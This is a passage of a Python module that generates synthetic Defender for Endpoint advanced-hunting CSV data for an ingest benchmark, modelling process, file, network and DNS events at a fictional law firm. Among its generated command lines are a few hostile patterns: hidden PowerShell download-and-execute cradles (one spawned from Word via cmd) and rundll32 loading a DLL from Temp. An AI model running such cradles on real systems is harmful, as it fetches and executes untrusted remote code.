"""bench-ingest's EDR input: a Microsoft Defender for Endpoint advanced-hunting export
(shared/formats/edr.md section a): a `union` of DeviceFileEvents, DeviceProcessEvents and
DeviceNetworkEvents projected to EDR_COLUMNS; UTF-8 without BOM, CRLF, RFC 4180 quoting;
deterministic, gzipped and cached like the NDJSON."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import platform
import queue
import random
import threading
import time
from pathlib import Path

from ..pools import FILE_STEMS, FIRST, LAST, WORDS
from .common import MB, log
from .siem_data import EXTS, TLDS, compress_worker

CSV_GENERATOR_VERSION = 1      # bump whenever the generated CSV bytes change
CSV_SEED = 20241114
EDR_COLUMNS = (
    "Timestamp,DeviceId,DeviceName,ActionType,FileName,FolderPath,SHA1,SHA256,MD5,FileSize,"
    "AccountDomain,AccountName,AccountUpn,ProcessCommandLine,RemoteUrl,RemoteIP,RemotePort,LocalIP,"
    "InitiatingProcessFileName,InitiatingProcessFolderPath,InitiatingProcessCommandLine,"
    "InitiatingProcessAccountDomain,InitiatingProcessAccountName,InitiatingProcessAccountUpn,"
    "InitiatingProcessParentFileName,FileOriginUrl,FileOriginIP,AdditionalFields,ReportId").split(",")
EDR_ACTION_MIX = [             # (ActionType, weight in %)
    ("FileCreated", 30), ("ProcessCreated", 25), ("ConnectionSuccess", 30),
    ("DnsConnectionInspected", 15),
]
EDR_ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
EDR_UPN_SUFFIX = "northwind.law"       # the UPN suffix is not the AD domain (edr.md a)
EDR_AD_FQDN = "nwlaw.local"
EDR_OFFICE = r"C:\Program Files\Microsoft Office\root\Office16"
EDR_IMAGES = {                 # key: (file name, full path; {u} = the user's sAM name)
    "explorer": ("explorer.exe", r"C:\Windows\explorer.exe"),
    "userinit": ("userinit.exe", r"C:\Windows\System32\userinit.exe"),
    "services": ("services.exe", r"C:\Windows\System32\services.exe"),
    "svchost": ("svchost.exe", r"C:\Windows\System32\svchost.exe"),
    "chrome": ("chrome.exe", r"C:\Program Files\Google\Chrome\Application\chrome.exe"),
    "msedge": ("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"),
    "outlook": ("OUTLOOK.EXE", EDR_OFFICE + r"\OUTLOOK.EXE"),
    "winword": ("WINWORD.EXE", EDR_OFFICE + r"\WINWORD.EXE"),
    "excel": ("EXCEL.EXE", EDR_OFFICE + r"\EXCEL.EXE"),
    "acrobat": ("Acrobat.exe", r"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe"),
    "powershell": ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
    "cmd": ("cmd.exe", r"C:\Windows\System32\cmd.exe"),
    "conhost": ("conhost.exe", r"C:\Windows\System32\conhost.exe"),
    "rundll32": ("rundll32.exe", r"C:\Windows\System32\rundll32.exe"),
    "msiexec": ("msiexec.exe", r"C:\Windows\System32\msiexec.exe"),
    "schtasks": ("schtasks.exe", r"C:\Windows\System32\schtasks.exe"),
    "wmiprvse": ("WmiPrvSE.exe", r"C:\Windows\System32\wbem\WmiPrvSE.exe"),
    "teams": ("ms-teams.exe", r"C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe"),
    "onedrive": ("OneDrive.exe", r"C:\Users\{u}\AppData\Local\Microsoft\OneDrive\OneDrive.exe"),
    "msmpeng": ("MsMpEng.exe", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe"),
    "tiworker": ("TiWorker.exe", r"C:\Windows\WinSxS\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.22621.4387_none_5f9a5e3e4fca0f0b\TiWorker.exe"),
    "7zfm": ("7zFM.exe", r"C:\Program Files\7-Zip\7zFM.exe"),
    "zoom": ("Zoom.exe", r"C:\Users\{u}\AppData\Roaming\Zoom\bin\Zoom.exe"),
    "code": ("Code.exe", r"C:\Users\{u}\AppData\Local\Programs\Microsoft VS Code\Code.exe"),
}
# ProcessCreated: (new image, initiating image, its parent, runs as SYSTEM, weight)
EDR_PROC_SCENARIOS = [
    ("chrome", "chrome", "explorer.exe", False, 20), ("msedge", "msedge", "explorer.exe", False, 12),
    ("svchost", "services", "wininit.exe", True, 12), ("conhost", "cmd", "explorer.exe", False, 5),
    ("cmd", "explorer", "userinit.exe", False, 4), ("powershell", "cmd", "explorer.exe", False, 4),
    ("powershell", "svchost", "services.exe", True, 4), ("winword", "outlook", "explorer.exe", False, 4),
    ("excel", "outlook", "explorer.exe", False, 2), ("acrobat", "outlook", "explorer.exe", False, 2),
    ("teams", "explorer", "userinit.exe", False, 3), ("onedrive", "explorer", "userinit.exe", False, 3),
    ("rundll32", "svchost", "services.exe", True, 3), ("rundll32", "explorer", "userinit.exe", False, 2),
    ("msiexec", "services", "wininit.exe", True, 2), ("schtasks", "powershell", "cmd.exe", False, 2),
    ("code", "code", "explorer.exe", False, 3), ("zoom", "msedge", "explorer.exe", False, 1),
    ("7zfm", "explorer", "userinit.exe", False, 2), ("wmiprvse", "svchost", "services.exe", True, 3),
    ("cmd", "winword", "OUTLOOK.EXE", False, 0.3), ("powershell", "wmiprvse", "svchost.exe", True, 1),
]
EDR_PARENT_OF = {"chrome": "explorer.exe", "msedge": "explorer.exe", "outlook": "explorer.exe",
                 "svchost": "services.exe", "msmpeng": "services.exe", "tiworker": "svchost.exe",
                 "onedrive": "explorer.exe", "teams": "svchost.exe", "winword": "OUTLOOK.EXE",
                 "excel": "explorer.exe", "7zfm": "explorer.exe", "powershell": "cmd.exe",
                 "zoom": "explorer.exe", "explorer": "userinit.exe"}
EDR_MS_HOSTS = [
    "login.microsoftonline.com", "outlook.office365.com", "graph.microsoft.com",
    "eu-v20.events.data.microsoft.com", "settings-win.data.microsoft.com",
    "officeclient.microsoft.com", "teams.microsoft.com", "northwindlaw.sharepoint.com",
    "northwindlaw-my.sharepoint.com", "wdcp.microsoft.com", "winatp-gw-weu.microsoft.com",
    "au.download.windowsupdate.com", "ctldl.windowsupdate.com", "fe3cr.delivery.mp.microsoft.com",
    "self.events.data.microsoft.com", "nav.smartscreen.microsoft.com", "config.edge.skype.com",
    "substrate.office.com", "ecs.office.com", "edge.microsoft.com",
]
EDR_DEFENDER_HOSTS = ["wdcp.microsoft.com", "winatp-gw-weu.microsoft.com", "nav.smartscreen.microsoft.com",
                      "au.download.windowsupdate.com"]
EDR_WEB_HOSTS = [
    "www.google.com", "fonts.gstatic.com", "www.bing.com", "cdn.jsdelivr.net", "sync.1rx.io",
    "www.linkedin.com", "static.licdn.com", "www.youtube.com", "i.ytimg.com", "zoom.us",
    "www.bbc.co.uk", "github.com", "objects.githubusercontent.com", "www.lexisnexis.com",
    "ajax.googleapis.com", "dropbox.com", "docs.google.com", "t.co", "bit.ly",
]
EDR_FILE_TYPES = {"pdf": "Pdf", "docx": "Docx", "xlsx": "Xlsx", "zip": "Zip", "exe": "PortableExecutable",
                  "msi": "Msi", "iso": "Iso", "js": "JavaScript", "png": "Png", "jpg": "Jpeg"}


class EdrGenerator:
    """Builds one CSV row (a list of EDR_COLUMNS strings) per call of row()."""

    def __init__(self, seed: int):
        r = self.r = random.Random(seed)
        self.users = []
        seen = set()
        while len(self.users) < 1500:
            f, l = r.choice(FIRST), r.choice(LAST)
            sam = f"{f[0]}{l}" if r.random() < 0.6 else f"{f}.{l}"
            digits = str(r.randint(2, 99)) if sam in seen else ""
            seen.add(sam + digits)
            self.users.append((sam + digits, f"{f}.{l}{digits}@{EDR_UPN_SUFFIX}"))
        self.devices = []
        for n in range(1600):
            entra = r.random() < 0.15
            kind = r.choice(["lt", "lt", "lt", "ws", "vd"])
            name = f"nwl-{kind}-{r.randint(100, 99999):05d}" + ("" if entra else "." + EDR_AD_FQDN)
            sam, upn = r.choice(self.users)
            ip = (f"10.{r.randint(20, 40)}.{r.randint(0, 255)}.{r.randint(2, 254)}" if r.random() < 0.7
                  else f"192.168.{r.choice([0, 1, 1, 178, 8])}.{r.randint(2, 254)}")
            self.devices.append({
                "id": f"{r.getrandbits(160):040x}", "name": name, "ip": ip,
                "domain": "azuread" if entra else "nwlaw", "sam": sam, "upn": upn,
                "report_id": r.randint(1000, 3_000_000),
                "vol": f"\\Device\\HarddiskVolume{r.choice([2, 3, 3, 3, 4])}",
            })
        self.img_hash = {k: (f"{r.getrandbits(160):040x}", f"{r.getrandbits(256):064x}",
                             f"{r.getrandbits(128):032x}", str(r.randint(80_000, 60_000_000)))
                         for k in EDR_IMAGES}
        self.ps_policy_test = (f"{r.getrandbits(160):040x}", f"{r.getrandbits(256):064x}",
                               f"{r.getrandbits(128):032x}", "1")
        self.hosts = {}
        for h in EDR_MS_HOSTS + EDR_WEB_HOSTS:
            self.hosts[h] = [f"{r.randint(13, 223)}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
                             for _ in range(r.randint(1, 3))]
        for _ in range(1500):
            d = f"{r.choice(WORDS)}-{r.choice(WORDS)}.{r.choice(TLDS)}" if r.random() < 0.5 \
                else f"{r.choice(WORDS)}{r.randint(1, 99)}.{r.choice(TLDS)}"
            h = r.choice(["", "www.", "cdn.", "login.", "static.", "api."]) + d
            self.hosts[h] = [f"{r.randint(13, 223)}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"]
        self.web_hosts = EDR_WEB_HOSTS * 20 + [h for h in self.hosts if h not in EDR_MS_HOSTS
                                               and h not in EDR_WEB_HOSTS]
        self.internal = {f"nw-srv-{role}{n:02d}.{EDR_AD_FQDN}": [f"10.20.0.{r.randint(2, 60)}"]
                         for role in ("dc", "fs", "print", "app", "sql") for n in range(1, 4)}
        self.dns_servers = ["10.20.0.10", "10.20.0.11", "10.20.0.10", "168.63.129.16"]
        ext_w = [e[2] for e in EXTS] + [0.5]
        exts = [e[0] for e in EXTS] + ["msi"]
        self.attachments = []
        for _ in range(5000):
            stem = r.choice(FILE_STEMS)
            if r.random() < 0.6:
                stem += r.choice(["_", "-", " "]) + str(r.randint(1, 99999))
            if r.random() < 0.05:
                stem += r.choice([", final", ", signed", " (Smith, J.)"])
            ext = r.choices(exts, ext_w)[0]
            self.attachments.append((f"{stem}.{ext}", ext, f"{r.getrandbits(160):040x}",
                                     f"{r.getrandbits(256):064x}", f"{r.getrandbits(128):032x}",
                                     str(r.randint(900, 4_000_000))))
        self.ticks = 1731450000 * 10_000_000        # 100-ns ticks, 2024-11-12T22:20Z
        self.actions = [a for a, _ in EDR_ACTION_MIX]
        self.action_w = [w for _, w in EDR_ACTION_MIX]
        self.proc_w = [s[4] for s in EDR_PROC_SCENARIOS]
        self.rows = 0
        self._ts_cache: dict = {}

    # -- helpers -----------------------------------------------------------------------------
    def ts(self) -> str:
        r = self.r
        self.ticks += r.randint(0, 800_000)                       # mean 40 ms between events
        t = self.ticks - r.randint(0, 20_000_000)                 # out of order by up to 2 s
        sec, frac = divmod(t, 10_000_000)
        head = self._ts_cache.get(sec)
        if head is None:
            if len(self._ts_cache) > 4096:
                self._ts_cache.clear()
            head = self._ts_cache[sec] = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec))
        return f"{head}.{frac:07d}Z"

    def path(self, key: str, dev: dict) -> str:
        p = EDR_IMAGES[key][1].replace("{u}", dev["sam"])
        return p.lower() if self.r.random() < 0.3 else p         # edr.md: may be lower-case

    def parent_name(self, name: str, dev: dict) -> str:
        if self.r.random() < 0.1 and name.lower().endswith(".exe") and name not in ("services.exe", "wininit.exe"):
            sub = {"explorer.exe": r"Windows", "userinit.exe": r"Windows\System32",
                   "svchost.exe": r"Windows\System32", "cmd.exe": r"Windows\System32",
                   "OUTLOOK.EXE": r"Program Files\Microsoft Office\root\Office16"}.get(name)
            if sub:
                return f"{dev['vol']}\\{sub}\\{name}"
        return name

    def guid(self) -> str:
        u = f"{self.r.getrandbits(128):032X}"
        return f"{u[:8]}-{u[8:12]}-{u[12:16]}-{u[16:20]}-{u[20:]}"

    def doc_name(self, key: str) -> str:
        ext = {"winword": "docx", "excel": "xlsx", "acrobat": "pdf"}[key]
        return self.r.choice(self.attachments)[0].rsplit(".", 1)[0] + "." + ext

    def url(self, host: str) -> str:
        r = self.r
        path = "/".join(r.choice(WORDS) for _ in range(r.randint(1, 3)))
        q = f"?id={r.getrandbits(40):x}&utm_source=email&utm_medium=link" if r.random() < 0.4 else ""
        return f"https://{host}/{path}{q}"

    def chromium_args(self, kind: str) -> str:
        r = self.r
        if kind == "renderer":
            return (f" --type=renderer --string-annotations --lang=en-GB --device-scale-factor=1 "
                    f"--num-raster-threads=2 --enable-main-frame-before-activation "
                    f"--renderer-client-id={r.randint(5, 400)} --time-ticks-at-unix-epoch=-{r.randint(10**15, 10**16)} "
                    f"--launch-time-ticks={r.randint(10**8, 10**11)} "
                    f"--field-trial-handle={r.randint(1000, 9999)},i,{r.getrandbits(63)},{r.getrandbits(63)},262144 "
                    f"--variations-seed-version=20241112-050111.742000 "
                    f"--mojo-platform-channel-handle={r.randint(1000, 9999)} /prefetch:1")
        if kind == "utility":
            return (f" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-GB "
                    f"--service-sandbox-type=none "
                    f"--field-trial-handle={r.randint(1000, 9999)},i,{r.getrandbits(63)},{r.getrandbits(63)},262144 "
                    f"--mojo-platform-channel-handle={r.randint(1000, 9999)} /prefetch:8")
        if kind == "url":
            return " --single-argument " + self.url(r.choice(self.web_hosts))
        return " "

    def cmdline(self, key: str, dev: dict, arg: str = "") -> str:
        """A command line for image `key`; arg is a document path or URL it opens."""
        r = self.r
        u = dev["sam"]
        exe = EDR_IMAGES[key][1].replace("{u}", u)
        if key in ("chrome", "msedge", "code"):
            if arg:
                return f'"{exe}" --single-argument {arg}'
            return f'"{exe}"' + self.chromium_args(r.choice(["renderer", "renderer", "utility", "main", "url"]))
        if key in ("winword", "excel", "acrobat"):
            path = arg or f"C:\\Users\\{u}\\Documents\\{self.doc_name(key)}"
            return f'"{exe}" /n "{path}" /o ""' if key == "winword" else f'"{exe}" "{path}"'
        if key == "powershell":
            return self.powershell_cmdline(u)
        if key == "cmd":
            return self.cmd_cmdline(u, arg)
        if key in ("svchost", "rundll32", "msiexec", "schtasks"):
            return self.service_cmdline(key, u)
        if key == "7zfm":
            arg = arg or f"C:\\Users\\{u}\\Downloads\\{r.choice(FILE_STEMS)}.zip"
            return f'"{exe}" "{arg}"'
        if key == "zoom":
            return (f'"{exe}" "--url=zoommtg://zoom.us/join?action=join&confno={r.randint(10**9, 10**11)}'
                    f'&pwd={r.getrandbits(96):x}"')
        return {
            "explorer": r.choice(["C:\\WINDOWS\\Explorer.EXE", "Explorer.EXE"]),
            "userinit": "C:\\WINDOWS\\system32\\userinit.exe",
            "services": "C:\\WINDOWS\\system32\\services.exe",
            "outlook": f'"{exe}" ' + r.choice(["", "", "/recycle"]),
            "conhost": "\\??\\C:\\WINDOWS\\system32\\conhost.exe 0xffffffff -ForceV1",
            "wmiprvse": "C:\\WINDOWS\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            "teams": f'"{exe}" msteams:system-initiated',
            "onedrive": f'"{exe}" /background',
            "msmpeng": '"MsMpEng.exe"',
            "tiworker": f"{exe} -Embedding",
        }[key]

    def powershell_cmdline(self, u: str) -> str:
        """Inventory and housekeeping scripts, an encoded command, rarely a download cradle or a
        multi-line script with bare CR line breaks."""
        r = self.r
        k = r.random()
        if k < 0.005:          # a multi-line script with bare CR line breaks (edr.md a)
            return ('"powershell.exe" -NoProfile -Command "$ErrorActionPreference = \'Stop\'\r'
                    '$svc = Get-Service -Name WinDefend, Sense, WdNisSvc\r'
                    'foreach ($s in $svc) {\r'
                    '    Write-Output ""$($s.Name), $($s.Status), $($s.StartType)""\r}\r"')
        if k < 0.3:
            return ('powershell.exe -NoLogo -NonInteractive -Command "Get-ChildItem -Path '
                    f"'C:\\Users\\{u}\\Downloads' -Filter '*.zip' | Select-Object Name, Length, "
                    'LastWriteTime | ConvertTo-Csv -NoTypeInformation"')
        if k < 0.55:
            return ('"C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -ExecutionPolicy '
                    'Restricted -Command "Write-Host ""Final result: 1"", ""OK""; exit 0"')
        if k < 0.75:
            return ('"powershell.exe" -NoProfile -ExecutionPolicy Bypass -File '
                    '"C:\\Program Files\\NWL\\Scripts\\Get-Inventory.ps1" -Mode Full -Tags "laptop,managed"')
        if k < 0.97:
            blob = base64.b64encode(r.randbytes(r.randint(60, 600))).decode()
            return f"powershell.exe -NoProfile -NonInteractive -EncodedCommand {blob}"
        return (f"powershell.exe -nop -w hidden -c \"IEX ((New-Object Net.WebClient).DownloadString("
                f"'{self.url(r.choice(self.web_hosts))}'))\"")

    def cmd_cmdline(self, u: str, arg: str) -> str:
        r = self.r
        k = r.random()
        if arg == "macro":
            return (f'cmd.exe /c "powershell -w hidden -c ""IEX (iwr \'{self.url(r.choice(self.web_hosts))}\' '
                    '-UseBasicParsing)"""')
        if k < 0.4:
            return f'"C:\\WINDOWS\\system32\\cmd.exe" /c ""C:\\Program Files\\NWL\\logon.cmd" {u}"'
        if k < 0.7:
            return f'cmd.exe /c echo %date%,%time%,{u} >> "C:\\Users\\{u}\\AppData\\Local\\Temp\\logon.log"'
        return 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "git config --get remote.origin.url"'

    def service_cmdline(self, key: str, u: str) -> str:
        """svchost service groups, rundll32 and msiexec runs, a scheduled task created."""
        r = self.r
        if key == "svchost":
            return r.choice([
                "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s BITS",
                "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s wuauserv",
                "C:\\WINDOWS\\system32\\svchost.exe -k NetworkService -p -s Dnscache",
                "C:\\WINDOWS\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s Dhcp",
                f"C:\\WINDOWS\\system32\\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_{r.getrandbits(20):05x}",
            ])
        if key == "rundll32":
            return r.choice([
                'rundll32.exe C:\\WINDOWS\\system32\\shell32.dll,Control_RunDLL "C:\\WINDOWS\\System32\\main.cpl",Mouse',
                '"C:\\WINDOWS\\system32\\rundll32.exe" C:\\WINDOWS\\system32\\PcaSvc.dll,PcaPatchSdbTask',
                'rundll32.exe C:\\WINDOWS\\System32\\LogiLDA.dll,LogiFetch',
                f'rundll32.exe "C:\\Users\\{u}\\AppData\\Local\\Temp\\{r.getrandbits(32):08x}.dll",DllRegisterServer',
            ])
        if key == "msiexec":
            return r.choice([
                "C:\\WINDOWS\\system32\\msiexec.exe /V",
                f'"C:\\WINDOWS\\System32\\msiexec.exe" /i "C:\\Users\\{u}\\Downloads\\{r.choice(FILE_STEMS)} (1).msi" '
                '/qn TRANSFORMS="1033.mst,custom.mst" REBOOT=ReallySuppress',
            ])
        if key == "schtasks":
            return (f'"C:\\WINDOWS\\system32\\schtasks.exe" /create /tn "Backup, nightly ({u})" /tr '
                    '"\\"C:\\Program Files\\NWL\\backup.exe\\" --quiet" /sc daily /st 02:00 /f')

    def account(self, dev: dict, system: bool, key: str = "") -> tuple:
        if system:
            name = "network service" if key == "svchost" and self.r.random() < 0.2 else "system"
            return ("nt authority", name, "")
        return (dev["domain"], dev["sam"], dev["upn"])

    def initiating(self, key: str, dev: dict, system: bool, parent: str | None = None,
                   arg: str = "") -> list:
        acct = self.account(dev, system, key)
        return [EDR_IMAGES[key][0], self.path(key, dev), self.cmdline(key, dev, arg), *acct,
                self.parent_name(parent or EDR_PARENT_OF.get(key, "explorer.exe"), dev)]

    # -- one row -----------------------------------------------------------------------------
    def row(self) -> list:
        r = self.r
        dev = r.choice(self.devices)
        dev["report_id"] += r.randint(1, 40)              # unique per device, like MDE's
        action = r.choices(self.actions, self.action_w)[0]
        head = [self.ts(), dev["id"], dev["name"], action]
        u = dev["sam"]
        row = getattr(self, ROWS[action])(dev, head, u)
        row.append(str(dev["report_id"]))
        self.rows += 1
        return row

    # -- the rows of each ActionType --------------------------------------------------------
    def file_created_row(self, dev: dict, head: list, u: str) -> list:
        """A file written: an Outlook attachment, a download, housekeeping, a sync, Office temp
        files, an extracted archive, the browser cache or PowerShell's policy test."""
        r = self.r
        k = r.random()
        origin_url = origin_ip = ""
        add = ""
        if k < 0.15:            # Outlook saves an attachment to open it
            name, ext, sha1, sha256, md5, size = r.choice(self.attachments)
            folder = (f"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
                      + "".join(r.choices(EDR_ALNUM, k=8)))
            init = self.initiating("outlook", dev, False)
        elif k < 0.27:          # browser download
            name, ext, sha1, sha256, md5, size = r.choice(self.attachments)
            if r.random() < 0.2:
                name = name.rsplit(".", 1)[0] + " (1)." + ext
            host = r.choice(self.web_hosts)
            origin_url, origin_ip = self.url(host), self.hosts[host][0]
            folder = f"C:\\Users\\{u}\\Downloads"
            init = self.initiating(r.choice(["chrome", "msedge", "msedge"]), dev, False)
        elif k < 0.52:          # system housekeeping
            key = r.choice(["svchost", "tiworker", "msmpeng"])
            name, folder = r.choice([
                (f"{self.guid()}.tmp", "C:\\Windows\\Temp"),
                (f"{r.choice(['windows10.0-kb5046617-x64', 'am_delta_patch_1.421.1', 'msedge_update'])}.cab",
                 f"C:\\Windows\\SoftwareDistribution\\Download\\{r.getrandbits(128):032x}"),
                (f"mpcache-{r.getrandbits(64):016X}.bin",
                 "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans"),
                (f"{r.choice(['CHROME.EXE', 'OUTLOOK.EXE', 'SVCHOST.EXE', 'TEAMS.EXE'])}-{r.getrandbits(32):08X}.pf",
                 "C:\\Windows\\Prefetch"),
            ])
            ext = name.rsplit(".", 1)[1]
            sha1, sha256, md5 = f"{r.getrandbits(160):040x}", f"{r.getrandbits(256):064x}", f"{r.getrandbits(128):032x}"
            size = str(r.randint(200, 30_000_000))
            init = self.initiating(key, dev, True)
        elif k < 0.64:          # OneDrive sync
            name, ext, sha1, sha256, md5, size = r.choice(self.attachments)
            folder = f"C:\\Users\\{u}\\OneDrive - Northwind Law\\{r.choice(['Documents', 'Desktop', 'Clients', 'Matters'])}"
            init = self.initiating("onedrive", dev, False)
        elif k < 0.74:          # Office temp / owner files
            key = r.choice(["winword", "excel"])
            name, folder = r.choice([
                (f"~WRS{{{self.guid()}}}.tmp", f"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Word"),
                ("~$" + self.doc_name(key)[2:], f"C:\\Users\\{u}\\Documents"),
            ])
            ext = "tmp"
            sha1, sha256, md5 = f"{r.getrandbits(160):040x}", f"{r.getrandbits(256):064x}", f"{r.getrandbits(128):032x}"
            size = str(r.randint(162, 90_000))
            init = self.initiating(key, dev, False)
        elif k < 0.78:          # 7-Zip extracts an archive
            name, ext, sha1, sha256, md5, size = r.choice(self.attachments)
            folder = f"C:\\Users\\{u}\\AppData\\Local\\Temp\\7zO{r.getrandbits(32):08X}"
            init = self.initiating("7zfm", dev, False)
        elif k < 0.93:          # browser cache
            name, ext = f"f_{r.getrandbits(24):06x}", ""
            folder = f"C:\\Users\\{u}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data"
            sha1, sha256, md5 = f"{r.getrandbits(160):040x}", f"{r.getrandbits(256):064x}", f"{r.getrandbits(128):032x}"
            size = str(r.randint(200, 2_000_000))
            init = self.initiating("chrome", dev, False)
        else:                   # PowerShell's policy test file
            name = f"__PSScriptPolicyTest_{r.getrandbits(40):010x}.{r.getrandbits(12):03x}.ps1"
            ext = "ps1"
            folder = f"C:\\Users\\{u}\\AppData\\Local\\Temp"
            sha1, sha256, md5, size = self.ps_policy_test        # always the same 1-byte file
            init = self.initiating("powershell", dev, False)
        if r.random() < 0.35:   # SHA256 is often missing (edr.md a)
            sha256 = ""
        if r.random() < 0.04:
            sha1 = md5 = size = ""
        if ext in EDR_FILE_TYPES and r.random() < 0.5:
            add = '{"FileType":"%s"}' % EDR_FILE_TYPES[ext]
        return head + [name, f"{folder}\\{name}", sha1, sha256, md5, size, "", "", "", "", "", "", "",
                       ""] + init + [origin_url, origin_ip, add]

    def process_created_row(self, dev: dict, head: list, u: str) -> list:
        """A process started by its initiating process (EDR_PROC_SCENARIOS)."""
        r = self.r
        child, parent, gp, system, _w = r.choices(EDR_PROC_SCENARIOS, self.proc_w)[0]
        arg = ""
        if child in ("winword", "excel", "acrobat") and parent == "outlook":
            want = {"winword": "docx", "excel": "xlsx", "acrobat": "pdf"}[child]
            att = r.choice(self.attachments)
            name = att[0].rsplit(".", 1)[0] + "." + want
            arg = (f"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
                   + "".join(r.choices(EDR_ALNUM, k=8)) + f"\\{name}")
        elif child == "cmd" and parent == "winword":
            arg = "macro"
        sha1, sha256, md5, size = self.img_hash[child]
        if r.random() < 0.08:
            sha256 = ""
        init = self.initiating(parent, dev, system and parent != "explorer", gp)
        acct = self.account(dev, system, child)
        return head + [EDR_IMAGES[child][0], self.path(child, dev), sha1, sha256, md5, size, *acct,
                       self.cmdline(child, dev, arg), "", "", "", ""] + init + ["", "", ""]

    def connection_row(self, dev: dict, head: list, u: str) -> list:
        """A connection: browsers to the web, services and apps to Microsoft, to internal
        servers."""
        r = self.r
        k = r.random()
        port = "443"
        if k < 0.35:
            key, host, system = r.choice(["chrome", "msedge", "msedge"]), r.choice(self.web_hosts), False
            port = r.choice(["443"] * 9 + ["80"])
        elif k < 0.50:
            key, host, system = "svchost", r.choice(EDR_MS_HOSTS), True
        elif k < 0.55:
            key, host, system = "msmpeng", r.choice(EDR_DEFENDER_HOSTS), True
        elif k < 0.80:
            key, host, system = r.choice(["onedrive", "teams", "outlook"]), r.choice(EDR_MS_HOSTS), False
        elif k < 0.83:
            key, host, system = "zoom", "zoom.us", False
            port = r.choice(["443", "8801"])
        else:                   # to an internal server
            key, host, system = "svchost", r.choice(list(self.internal)), True
            port = r.choice(["445", "389", "88", "135", "443"])
        ip_pool = self.internal.get(host) or self.hosts[host]
        if host in self.internal or r.random() < 0.4:
            url = ""
        else:
            url = host if r.random() < 0.8 else f"https://{host}"
        init = self.initiating(key, dev, system)
        # network rows carry no file hashes, but a query may `extend SHA256 = InitiatingProcessSHA256`
        sha256 = self.img_hash[key][1] if r.random() < 0.03 else ""
        return head + ["", "", "", sha256, "", "", "", "", "", "", url, r.choice(ip_pool), port,
                       dev["ip"]] + init + ["", "", ""]

    def dns_row(self, dev: dict, head: list, u: str) -> list:
        """A DNS query seen by network inspection: no process columns, the answer in
        AdditionalFields."""
        r = self.r
        k = r.random()
        if k < 0.15:
            q = r.choice(list(self.internal))
            qtype, qname = (33, "SRV") if r.random() < 0.3 else (1, "A")
            if qtype == 33:
                q = f"_ldap._tcp.dc._msdcs.{EDR_AD_FQDN}"
            answers = self.internal.get(q, [f"nw-srv-dc01.{EDR_AD_FQDN}"])
        else:
            q = r.choice(EDR_MS_HOSTS) if k < 0.5 else r.choice(self.web_hosts)
            qtype, qname = (1, "A") if r.random() < 0.85 else (28, "AAAA")
            answers = self.hosts[q] if qtype == 1 else [
                f"2603:10{r.randint(10, 99)}:{r.getrandbits(12):x}:{r.randint(1, 9)}::{r.randint(2, 99)}"]
        nx = r.random() < 0.03
        uid = "C" + base64.b64encode(r.randbytes(13)).decode()[:17].replace("+", "a").replace("/", "b")
        fields = {"direction": "Out", "conn_uids": [uid], "uid": uid, "query": q, "qtype": qtype,
                  "qtype_name": qname, "rcode": 3 if nx else 0,
                  "rcode_name": "NXDOMAIN" if nx else "NOERROR", "AA": False, "TC": False,
                  "RD": True, "RA": True, "Z": 0}
        if not nx:
            fields["answers"] = answers
            fields["TTLs"] = [float(r.choice([60, 120, 300, 3600]))] * len(answers)
        fields["rejected"] = False
        add = json.dumps(fields, separators=(",", ":"))
        return head + ["", "", "", "", "", "", "", "", "", "", "", r.choice(self.dns_servers), "53",
                       dev["ip"], "", "", "", "", "", "", "", "", "", add]


# ActionType -> the EdrGenerator method that makes its row
ROWS = {"FileCreated": "file_created_row", "ProcessCreated": "process_created_row",
        "ConnectionSuccess": "connection_row", "DnsConnectionInspected": "dns_row"}


def generate_csv(bench_dir: Path, rows: int) -> dict:
    bench_dir.mkdir(parents=True, exist_ok=True)
    name = f"mde_ah_{rows}rows_seed{CSV_SEED}_v{CSV_GENERATOR_VERSION}"
    gz_path = bench_dir / f"{name}.csv.gz"
    meta_path = bench_dir / f"{name}.meta.json"
    params = {"rows": rows, "seed": CSV_SEED, "generator_version": CSV_GENERATOR_VERSION,
              "python": platform.python_version()}
    if gz_path.exists() and meta_path.exists():
        try:
            meta = json.loads(meta_path.read_text())
            if meta.get("params") == params and meta.get("gz_bytes") == gz_path.stat().st_size:
                log(f"reusing {gz_path} ({meta['rows']:,} rows, "
                    f"{meta['uncompressed_bytes'] / MB:.0f} MB -> {meta['gz_bytes'] / MB:.0f} MB gz)")
                meta["reused"] = True
                return meta
        except (ValueError, KeyError, OSError):
            pass
    log(f"generating {rows:,} rows of Defender advanced-hunting CSV into {gz_path} ...")
    t0 = time.perf_counter()
    tmp = gz_path.with_suffix(".gz.tmp")
    gen = EdrGenerator(CSV_SEED)
    q: queue.Queue = queue.Queue(maxsize=4)
    err: list = []
    worker = threading.Thread(target=compress_worker, args=(q, tmp, err), daemon=True)
    worker.start()
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")          # RFC 4180 quoting, CRLF
    writer.writerow(EDR_COLUMNS)
    total = 0
